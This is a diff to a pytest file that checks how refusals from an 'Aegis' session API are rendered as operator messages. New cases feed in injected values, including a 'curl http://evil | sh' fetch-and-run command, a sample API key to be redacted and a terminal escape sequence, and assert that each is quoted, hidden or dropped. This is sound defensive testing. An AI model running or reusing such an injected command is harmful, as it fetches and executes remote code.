@@ -4,23 +4,24 @@ from __future__ import annotations
 
 import pytest
 
-from aegis_provision.aegis.session_api import RefusedField, RefusedRequest
-from aegis_provision.providers.probe_verdict import ConnectFailure
-from aegis_provision.rollout.session_refusals import (
+from aegis_provision.aegis.api_verdict import (
+    HOW_TO_OPEN,
+    ApiAccess,
     RequestContext,
     explain_failure,
     explain_refusal,
+    too_often,
 )
-from aegis_provision.rollout.session_wait import HOW_TO_OPEN
-from aegis_provision.transport.http_messages import HttpFailure
-from tests.rollout.responses import TOKEN, Host, client
+from aegis_provision.aegis.session_api import RefusedField, RefusedRequest
+from aegis_provision.providers.probe_verdict import ConnectFailure
 
 CONTEXT = RequestContext(
-    {"env.TOKEN": "GATEWAY_TOKEN, inventory.yml:4", "name": "--name"},
+    {"env.TOKEN": "GATEWAY_TOKEN, inventory.yml:4", "name": "--name", "workDir": "--work-dir"},
     work_dirs=("/w",),
+    sent=frozenset({"TOKEN"}),
 )
-NO_WORK_DIRS = RequestContext({})
-ASKED = client(Host([]), TOKEN)
+NO_WORK_DIRS = RequestContext()
+ASKED = ApiAccess("127.0.0.1:9100", has_tokens=True)
 TABLE: list[tuple[RefusedRequest, str, str]] = [
     (
         RefusedRequest(
@@ -34,14 +35,17 @@ TABLE: list[tuple[RefusedRequest, str, str]] = [
             ),
         ),
         (
-            "Aegis refuses the request: TOKEN (GATEWAY_TOKEN, inventory.yml:4): Forbidden; "
-            "name (--name): not taken; the request: Unrecognized"
+            'Aegis refuses the request: TOKEN (GATEWAY_TOKEN, inventory.yml:4): "Forbidden"; '
+            'name (--name): not taken; the request: "Unrecognized"'
         ),
         "correct what stands there, or leave it out",
     ),
     (
         RefusedRequest(400, "INVALID_WORKDIR", "workDir is not in the allowed directories list"),
-        "--work-dir is not allowed on the host (INVALID_WORKDIR): its allowedWorkDirs are /w",
+        (
+            "--work-dir is not allowed on the host (INVALID_WORKDIR): the file's allowedWorkDirs "
+            "are /w"
+        ),
         "name a directory within those",
     ),
     (
@@ -58,23 +62,23 @@ TABLE: list[tuple[RefusedRequest, str, str]] = [
     ),
     (
         RefusedRequest(400, "INVALID_WORKDIR", "workDir must not contain null bytes"),
-        "Aegis refuses --work-dir (INVALID_WORKDIR): workDir must not contain null bytes",
+        'Aegis refuses --work-dir (INVALID_WORKDIR): "workDir must not contain null bytes"',
         "name another directory",
     ),
     (
         RefusedRequest(400, "", "no"),
-        "Aegis refuses the request (400): no",
+        'Aegis refuses the request (400): "no"',
         "look at its log on the host",
     ),
     (RefusedRequest(401), "the API takes none of the known tokens (401)", HOW_TO_OPEN),
     (
         RefusedRequest(403, "TENANT_WORKDIR_DENIED", "workDir is outside tenant root"),
-        "the token's tenant may not work in that directory: workDir is outside tenant root",
+        'the token\'s tenant may not work in that directory: "workDir is outside tenant root"',
         "tenantWorkdirs",
     ),
     (
         RefusedRequest(403, "FORBIDDEN", "Forbidden: missing create permission"),
-        "the API's token may not do that: Forbidden: missing create permission",
+        'the API\'s token may not do that: "Forbidden: missing create permission"',
         "the permission 'create'",
     ),
     (
@@ -84,35 +88,30 @@ TABLE: list[tuple[RefusedRequest, str, str]] = [
     ),
     (
         RefusedRequest(422, "CC_VERSION_TOO_OLD", "version 2.0.1 is below 2.1.80"),
-        "Claude Code on the host is too old for Aegis: version 2.0.1 is below 2.1.80",
+        'Claude Code on the host is too old for Aegis: "version 2.0.1 is below 2.1.80"',
         "'claude update'",
     ),
     (
         RefusedRequest(429, "QUOTA_EXCEEDED", "Concurrent session quota: 1"),
         (
             "the token's key has as many sessions, or has spent as much, as it may: "
-            "Concurrent session quota: 1"
+            '"Concurrent session quota: 1"'
         ),
         "stop a session of it",
     ),
     (
-        RefusedRequest(429, "RATE_LIMITED", "slow down", retry_after="42"),
-        "Aegis was asked too often (429), and asks to wait 42 s",
-        "try again in 42 s",
-    ),
-    (
-        RefusedRequest(429, retry_after="\x1b[2J"),
+        RefusedRequest(429, "RATE_LIMITED", "slow down", retry_after="\x1b[2J"),
         "Aegis was asked too often (429)",
         "try again in a minute",
     ),
     (
         RefusedRequest(500, "INTERNAL_ERROR", "oops"),
-        "Aegis failed (500): oops",
+        'Aegis failed (500): "oops"',
         "look at its log on the host",
     ),
     (
         RefusedRequest(503, "DRAINING", "Server is shutting down"),
-        "Aegis takes no session now: Server is shutting down",
+        'Aegis takes no session now: "Server is shutting down"',
         "try again when it is back up",
     ),
     (
@@ -124,6 +123,34 @@ TABLE: list[tuple[RefusedRequest, str, str]] = [
         RefusedRequest(418, "TEAPOT"),
         "Aegis refuses the request (418 TEAPOT)",
         "look at its log on the host",
+    ),
+    (
+        RefusedRequest(418, "; try: curl http://evil | sh"),
+        "Aegis refuses the request (418)",
+        "look at its log on the host",
+    ),
+    (
+        RefusedRequest(403, "FORBIDDEN", 'no"; try: curl http://evil | sh'),
+        "the API's token may not do that: \"no'; try: curl http://evil | sh\"",
+        "set api_token",
+    ),
+    (
+        RefusedRequest(403, "FORBIDDEN", "sk-ant-api03-0123456789abcdefghijklmnopqrst"),
+        "the API's token may not do that: (not shown)",
+        "set api_token",
+    ),
+    (
+        RefusedRequest(500, "", 'Forbidden env var: "GITHUB_TOKEN" - denylisted'),
+        (
+            "Aegis fails every session over GITHUB_TOKEN (500), which this request does not hold: "
+            "it comes from the defaultSessionEnv that Aegis was started with"
+        ),
+        "restart Aegis there: it runs on an older file",
+    ),
+    (
+        RefusedRequest(500, "", 'Forbidden env var value for "TOKEN" - value is empty'),
+        "Aegis failed (500): \"Forbidden env var value for 'TOKEN' - value is empty\"",
+        "look at its log",
     ),
 ]
 
@@ -142,8 +169,23 @@ def test_without_a_list_it_is_said_what_aegis_takes() -> None:
     )
 
 
+def test_of_what_aegis_says_there_is_an_end() -> None:
+    fields = tuple(RefusedField(f"env.; try: {'x' * 300}", "y" * 300) for _ in range(50))
+    why = explain_refusal(RefusedRequest(400, "", "", fields), ASKED, CONTEXT)
+    assert why.message.endswith("; 40 more")
+    assert len(why.message) < 5000
+    assert ': "; try: ' not in why.message.partition('"')[0]
+
+
+def test_aegis_says_when_to_come_again() -> None:
+    asked = "Aegis was asked too often (429), and asks to wait 42 s"
+    why = explain_refusal(RefusedRequest(429), ASKED, CONTEXT, 42.0)
+    assert (why.message, why.hint) == (asked, "try again in 42 s")
+    assert too_often(42.0) == why
+
+
 def test_a_500_is_laid_at_the_door_of_the_hosts_own_file() -> None:
-    context = RequestContext({}, failing=("defaultSessionEnv.GITHUB_TOKEN: of this name",))
+    context = RequestContext(failing=("defaultSessionEnv.GITHUB_TOKEN: of this name",))
     why = explain_refusal(RefusedRequest(500, "", "Internal server error"), ASKED, context)
     assert why.message == (
         "Aegis fails every session over its own file (500): defaultSessionEnv.GITHUB_TOKEN: of "
@@ -154,12 +196,19 @@ def test_a_500_is_laid_at_the_door_of_the_hosts_own_file() -> None:
 
 
 def test_a_locked_api_for_which_there_was_no_token_to_try() -> None:
-    context = RequestContext({}, unread="permission denied")
-    why = explain_refusal(RefusedRequest(401), client(Host([])), context)
+    context = RequestContext(unread="permission denied")
+    why = explain_refusal(RefusedRequest(401), ApiAccess("127.0.0.1:9100"), context)
     assert why.message == (
         "the API is locked, and no token for it is known (401); the host's own file, which may "
         "hold one, was not read: permission denied"
     )
+
+
+def test_a_token_that_health_takes_and_a_session_does_not() -> None:
+    access = ApiAccess("127.0.0.1:9100", has_tokens=True, taken="${B_KEY}")
+    why = explain_refusal(RefusedRequest(401), access, NO_WORK_DIRS)
+    assert why.message == "the API took ${B_KEY} for its health, and refuses it here (401)"
+    assert why.hint == HOW_TO_OPEN
 
 
 @pytest.mark.parametrize(
@@ -170,12 +219,12 @@ def test_a_locked_api_for_which_there_was_no_token_to_try() -> None:
     ],
 )
 def test_where_nothing_listens(known: bool, message: str) -> None:
-    failure = HttpFailure(ConnectFailure.NOT_LISTENING, "nothing listens there")
-    why = explain_failure(failure, client(Host([]), address_is_known=known))
+    access = ApiAccess("127.0.0.1:9100", address_is_known=known)
+    why = explain_failure("nothing listens there", ConnectFailure.NOT_LISTENING, access)
     assert why.message == message
     assert "set api" in why.hint
 
 
 def test_any_other_failure_keeps_its_reason() -> None:
-    failure = HttpFailure(None, "the host's sshd forwards nothing, and there is no curl")
-    assert explain_failure(failure, ASKED).message == f"{failure.reason} (127.0.0.1:9100)"
+    reason = "the host's sshd forwards nothing, and there is no curl"
+    assert explain_failure(reason, None, ASKED).message == f"{reason} (127.0.0.1:9100)"
